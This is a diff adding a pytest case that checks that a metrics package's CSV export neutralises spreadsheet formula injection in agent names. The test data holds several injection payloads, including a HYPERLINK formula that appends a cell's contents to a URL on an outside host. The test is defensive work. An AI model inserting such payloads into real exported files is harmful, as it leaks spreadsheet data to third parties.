@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 
+import pytest
 from results_by_hand import group, outcome, result
 
 from harbor_metrics.evaluation.result import Basis, Failure, Uncertainty
@@ -42,3 +43,27 @@ def test_a_row_is_a_value_with_all_digits() -> None:
         ("pass_at_k", "2", "0.5", ""),
     ]
     assert [row["origin"] for row in rows[3:]] == ["registry", "harbor"]
+
+
+@pytest.mark.parametrize(
+    ("agent", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ('=HYPERLINK("https://e.org/?"&A1)', '\'=HYPERLINK("https://e.org/?"&A1)'),
+        ("+1+1", "'+1+1"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\n=1+1"),
+        ("a\r=1+1", "a\n=1+1"),
+        ("＝1+1", "'＝1+1"),  # noqa: RUF001
+        ("-5", "-5"),
+        ("-1e-05", "-1e-05"),
+        ("a=b", "a=b"),
+        ("'=1", "'=1"),
+    ],
+)
+def test_text_is_no_formula_of_a_spreadsheet(agent: str, cell: str) -> None:
+    made = result(group(outcome(values={"mean": -0.5}), agent=agent))
+    (row,) = csv.DictReader(io.StringIO(render(made), newline=""))
+    assert (row["agent"], row["value"]) == (cell, "-0.5")
